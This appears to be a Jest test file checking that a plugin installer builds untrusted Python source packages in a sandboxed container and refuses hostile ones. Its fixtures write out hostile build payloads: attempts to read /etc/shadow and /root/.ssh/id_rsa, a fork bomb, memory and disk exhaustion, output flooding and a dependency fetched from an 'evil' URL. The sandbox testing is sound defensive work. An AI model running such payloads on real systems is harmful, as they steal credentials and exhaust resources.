import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { Agent } from '#host';
import { buildSdist } from '#testing';
import { mortiseBin } from '../cli/mortise.js';
import { canRunContainers, containerProofs, containerSettings } from './container-proofs.js';
import { installers } from './installers.js';
import { PluginStore, pluginSource } from './plugin-store.js';

/** A build system that the store has as it has every package; `act` is what the sdist itself does when it is built. */
const buildSystem = `
import os, pathlib, runpy, zipfile

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if os.path.exists("act.py"):
        runpy.run_path("act.py")
    source, = pathlib.Path(".").glob("acme_*.py")
    name = source.stem
    filename = name + "-1.0.0-py3-none-any.whl"
    info = name + "-1.0.0.dist-info"
    with zipfile.ZipFile(pathlib.Path(wheel_directory) / filename, "w") as wheel:
        for path in [source, *pathlib.Path(".").glob("said.txt")]:
            wheel.writestr(path.name, path.read_text())
        wheel.writestr(info + "/METADATA", "Metadata-Version: 2.1\\nName: " + name + "\\nVersion: 1.0.0\\nRequires-Dist: acme-needed\\n\\n")
        wheel.writestr(info + "/WHEEL", "Wheel-Version: 1.0\\nGenerator: own\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "/RECORD", "")
    return filename
`;

let store: PluginStore;

const usual = '[build-system]\nrequires = ["acme-builder>=3"]\nbuild-backend = "acme_builder"\n';

async function publish(name: string, act?: string, pyproject = usual): Promise<void> {
  const entries: [string, string][] = [
    ['pyproject.toml', pyproject],
    [`acme_${name}.py`, `import pathlib\n${pluginSource('1.0.0')}${saidSource}`],
    ...(act === undefined ? [] : [['act.py', act] as [string, string]]),
  ];
  const folder = `acme_${name}-1.0.0`;
  const sdist = buildSdist({
    name: `acme_${name}`,
    version: '1.0.0',
    entries: entries.map(([path, content]) => ({ name: `${folder}/${path}`, content })),
  });
  const descriptor = `name: ${name}
version: 1.0.0
backend: {package: acme-${name}, version: 1.0.0}
backend_component: Plugin
`;
  await store.publishRelease(descriptor, [[`${folder}.tar.gz`, sdist]]);
}

const saidSource = `
    def said(self) -> str:
        """What was found out when it was built."""
        return (pathlib.Path(__file__).parent / "said.txt").read_text()
`;

/** Tries what no build may do, and puts into the wheel what it could. */
const curious = (file: string, folder: string): string => `
import os, socket
could = []
for path in (${JSON.stringify(file)}, "/etc/shadow", "/root/.ssh/id_rsa"):
    try:
        open(path).read()
        could.append("read " + path)
    except OSError:
        pass
for folder in (${JSON.stringify(folder)}, "/", "/usr", "/etc", "/mortise/sdist", "/mortise/tools", "/usr/lib/python3"):
    try:
        open(os.path.join(folder, "written"), "w").close()
        could.append("write to " + folder)
    except OSError:
        pass
for address in (("192.0.2.1", 80), ("127.0.0.1", PORT), ("10.0.0.1", 53)):
    try:
        socket.create_connection(address, 1).close()
        could.append("reach " + address[0])
    except OSError:
        pass
if os.getuid() == 0:
    could.append("be root")
open("said.txt", "w").write(", ".join(could))
`;

beforeAll(async () => {
  if (!canRunContainers) return;
  store = await PluginStore.start();
  await store.upload('acme_needed', '2.0.0');
  await store.upload('acme_builder', '3.0.0', [], buildSystem);
  const secret = join(store.folder, 'store');
  const port = new URL(store.address).port;
  await publish('curious', curious(join(secret, 'mortise.sqlite'), store.folder).replace('PORT', port));
  await publish('forks', 'import os, time\nwhile True:\n    os.fork()\n');
  await publish('hungry', 'kept = []\nwhile True:\n    kept.append(bytearray(2 ** 24))\n');
  await publish(
    'filling',
    'with open("/tmp/x", "wb") as file:\n    while True:\n        file.write(b"x" * 2 ** 20)\n',
  );
  await publish(
    'loud',
    'with open("/proc/1/fd/1", "w") as out:\n    while True:\n        out.write("x" * 2 ** 20)\n',
  );
  await publish(
    'fetching',
    undefined,
    usual.replace('acme-builder>=3', 'evil @ http://127.0.0.1:9/evil.tar.gz'),
  );
  await publish('endless', 'import time\nwhile True:\n    time.sleep(1)\n');
  await publish('wanting', undefined, usual.replace('acme-builder>=3', 'acme-builder>=99'));
});

afterAll(async () => {
  if (canRunContainers) await store.close();
});

const engine = (...line: readonly string[]): string => {
  const [program = '', ...global] = containerSettings.container_command.split(' ');
  return spawnSync(program, [...global, ...line], { encoding: 'utf8' }).stdout;
};

const containers = (): string => engine('ps', '--all', '--format={{.Names}}', '--filter=name=mortise-build-');

/** Others are asked what Python they have, and end by themselves. */
const isBuilding = (): boolean =>
  containers()
    .split('\n')
    .filter(Boolean)
    .map((name) =>
      engine('inspect', '--format={{.State.Running}} {{range .Mounts}}{{.Destination}} {{end}}', name),
    )
    .some((said) => said.startsWith('true ') && said.includes(' /mortise/sdist/'));

const untrusted = { trust: 'untrusted' } as const;

containerProofs.each(installers)('an sdist that is not trusted, resolved by %s', (installer) => {
  it('is built in a container, with what it is built with and needs from the store, and answers', async () => {
    const host = await store.makeHost(`untrusted-${installer}`, {
      settings: { ...containerSettings, installer },
    });
    const { installation } = await host.install('acme/curious', untrusted);
    const release = installation.wanted!;
    expect(readdirSync(host.folder.paths.wheels(release)).sort()).toEqual([
      'acme_curious-1.0.0-py3-none-any.whl',
      'acme_needed-2.0.0-py3-none-any.whl',
    ]);
    const agent = await Agent.start(host.folder.paths.root);
    try {
      expect(await agent.call('acme/curious', 'version')).toBe('1.0.0');
      expect(await agent.call('acme/curious', 'said')).toBe('');
    } finally {
      await agent.close();
    }
    expect(existsSync(join(store.folder, 'written'))).toBe(false);
  });
});

containerProofs('mortise that is killed while an sdist is built in a container', () => {
  it('leaves no container behind, and nothing here or at the store for the next one', async () => {
    const host = await store.makeHost('killed', { settings: containerSettings });
    const line = ['install', 'acme/endless', '--trust', 'untrusted', '--folder', host.folder.paths.root];
    const child = spawn(process.execPath, [mortiseBin, ...line], { stdio: 'ignore' });
    const ended = once(child, 'exit');
    while (child.exitCode === null && !isBuilding()) await pause(100);
    expect(child.exitCode).toBeNull();
    child.kill('SIGKILL');
    await ended;
    while (containers() !== '') await pause(100);
    expect(await host.tidy([])).toBe(true);
    expect(await host.state()).toMatchObject({ installations: {}, pending: [] });
    expect(await store.listed(host)).toEqual([]);
    expect(readdirSync(host.folder.paths.releases)).toEqual([]);
  });
});

containerProofs('an sdist that is not trusted and means harm', () => {
  it.each([
    ['forks', /could not be built/],
    ['hungry', /more memory|could not be built/],
    ['filling', /No space left/],
    ['loud', /printed without end/],
    ['fetching', /names no package of an index/],
    ['wanting', /acme-builder/i],
  ])('is refused when it is %s, with nothing left of it', async (name, told) => {
    const host = await store.makeHost(`host-${name}`, { settings: containerSettings });
    const refused = host.install(`acme/${name}`, untrusted);
    await expect(refused).rejects.toThrow(told);
    expect(await host.state()).toMatchObject({ installations: {}, pending: [] });
    expect(await store.listed(host)).toEqual([]);
    expect(containers()).toBe('');
  });
});
